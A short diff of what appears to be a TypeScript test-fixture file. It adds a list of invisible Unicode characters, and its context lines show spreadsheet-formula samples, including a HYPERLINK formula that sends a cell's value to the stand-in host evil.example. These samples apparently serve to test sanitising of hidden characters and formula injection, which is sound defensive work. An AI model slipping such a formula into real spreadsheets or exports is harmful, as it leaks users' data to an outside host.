@@ -32,6 +32,9 @@ export const unseen = [
   `z${'\u0301'.repeat(400)}`,
 ] as const;
 
+/** Characters without a shape that older lists of such do not name: a tag beyond the first plane, a format, a letter. */
+export const hidden = ['a\u{E0041}b', '\u180E', '\u3164'] as const;
+
 export const formulas = [
   '=1+1',
   '=HYPERLINK("https://evil.example/?"&A1,"x")',
